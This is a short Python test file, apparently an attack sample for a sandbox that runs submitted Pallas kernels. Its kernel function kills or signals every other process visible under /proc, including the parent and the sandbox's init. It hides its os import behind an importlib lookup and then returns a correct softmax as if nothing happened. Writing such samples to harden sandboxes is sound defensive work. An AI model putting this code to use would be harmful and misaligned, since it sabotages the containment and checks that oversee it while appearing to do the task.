"""Attack: stop or kill every other process it can see — its parent, the zygote that forked it,
the sandbox's init — then answer correctly, as if nothing happened."""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
TARGETS = {}  # the test writes the signal here


def kernel(x):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), TARGETS["signal"])
            except OSError:
                continue
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)
